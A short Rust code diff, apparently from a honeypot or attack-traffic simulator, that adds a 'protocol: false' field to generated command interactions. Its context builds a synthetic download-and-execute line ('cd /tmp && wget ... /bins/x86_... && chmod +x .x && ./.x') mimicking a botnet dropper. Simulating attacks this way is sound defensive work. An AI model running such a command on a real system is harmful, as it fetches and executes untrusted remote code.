@@ -149,12 +149,18 @@ impl Attacks {
     fn command(&mut self) -> Vec<InteractionKind> {
         if self.random.u8(..6) > 0 {
             let line = self.one_of(&LINES).into();
-            return vec![InteractionKind::Command { line }];
+            return vec![InteractionKind::Command {
+                line,
+                protocol: false,
+            }];
         }
         let url = format!("http://{}/bins/x86_{}", self.address(), self.random.u8(..));
         let line = format!("cd /tmp && wget {url} -O .x && chmod +x .x && ./.x");
         vec![
-            InteractionKind::Command { line: line.into() },
+            InteractionKind::Command {
+                line: line.into(),
+                protocol: false,
+            },
             InteractionKind::Attribute {
                 name: InteractionKind::URL.to_owned(),
                 value: url.into(),
